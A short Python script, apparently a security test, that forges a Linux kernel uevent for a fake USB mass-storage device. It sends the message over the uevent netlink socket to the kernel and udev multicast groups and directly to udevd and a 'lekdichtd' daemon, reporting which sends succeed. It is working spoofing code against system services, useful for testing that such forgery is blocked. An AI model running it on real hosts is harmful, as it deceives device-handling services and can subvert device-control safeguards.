#!/usr/bin/python3
"""Try to make others believe in a kernel event that never was: multicast and unicast on the uevent netlink.

Prints what each attempt met. Exit code 0: one was sent; 1: none was.
"""

import os
import socket
import sys

NETLINK_KOBJECT_UEVENT = 15
KERNEL_GROUP, UDEV_GROUP = 1, 2
DEVPATH = "/devices/pci0000:00/0000:00:04.0/usb1/1-9/1-9:1.0"
FIELDS = ("ACTION=add", f"DEVPATH={DEVPATH}", "SUBSYSTEM=usb", "DEVTYPE=usb_interface", "INTERFACE=8/6/80", "SEQNUM=999999")


def processes():
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/comm") as file:
                    if file.read().strip() in ("lekdichtd", "systemd-udevd"):
                        yield int(name)
            except OSError:
                pass


def main():
    message = "\0".join((f"add@{DEVPATH}", *FIELDS, "")).encode()
    targets = [(0, KERNEL_GROUP), (0, UDEV_GROUP), *((pid, 0) for pid in processes())]
    sent = False
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_KOBJECT_UEVENT) as forger:
        for target in targets:
            try:
                forger.sendto(message, target)
                print(f"{target}: sent")
                sent = True
            except OSError as error:
                print(f"{target}: {error.strerror}")
    return 0 if sent else 1


sys.exit(main())
